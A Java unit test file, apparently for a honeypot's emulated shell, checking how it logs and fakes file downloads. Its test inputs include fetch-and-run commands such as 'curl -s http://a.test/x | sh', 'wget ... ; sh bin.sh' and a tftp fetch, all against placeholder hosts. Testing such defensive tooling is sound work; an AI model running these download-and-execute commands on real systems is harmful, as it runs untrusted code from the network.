package io.honeybee.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.honeybee.capture.Captured;
import io.honeybee.fetch.Fetched;
import java.net.InetAddress;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** What the shell's tools do with a file that was really fetched. */
class FetchingTest {
  private final ShellFixture shell = new ShellFixture();

  FetchingTest() {
    Captured captured = new Captured("00", 12, Optional.of("captures/00"), Optional.empty());
    shell.fetcher =
        (url, agent) ->
            url.startsWith("http")
                ? new Fetched.Done(
                    InetAddress.ofLiteral("192.0.2.7"), "text/plain", "echo fetched\n", captured)
                : new Fetched.Refused("off");
  }

  @Test
  void wgetSavesWhatCameAndItRuns() throws Exception {
    String shown = shell.run("cd /tmp; wget http://a.test/bin.sh; echo $?; sh bin.sh");

    assertThat(shown)
        .contains("Connecting to a.test (a.test)|192.0.2.7|:80... connected.")
        .contains("'bin.sh' saved [12/12]")
        .endsWith("0\nfetched\n");
    assertThat(shell.downloads).containsExactly("http://a.test/bin.sh bin.sh");
    assertThat(shell.written).isEmpty();
  }

  @Test
  void curlPrintsOrSaves() throws Exception {
    assertThat(shell.run("curl -s http://a.test/x | sh")).isEqualTo("fetched\n");
    assertThat(shell.run("wget -qO- http://a.test/x | sh")).isEqualTo("fetched\n");
    assertThat(shell.run("curl -so /tmp/x http://a.test/x && cat /tmp/x"))
        .isEqualTo("echo fetched\n");
  }

  @Test
  void otherProtocolsAreOnlyToldOf() throws Exception {
    shell.run("tftp -g -r x 192.0.2.1; curl ftp://192.0.2.1/x");
    assertThat(shell.downloads).hasSize(2).allMatch(url -> !url.startsWith("http"));
    assertThat(shell.status).isNotZero();
  }
}
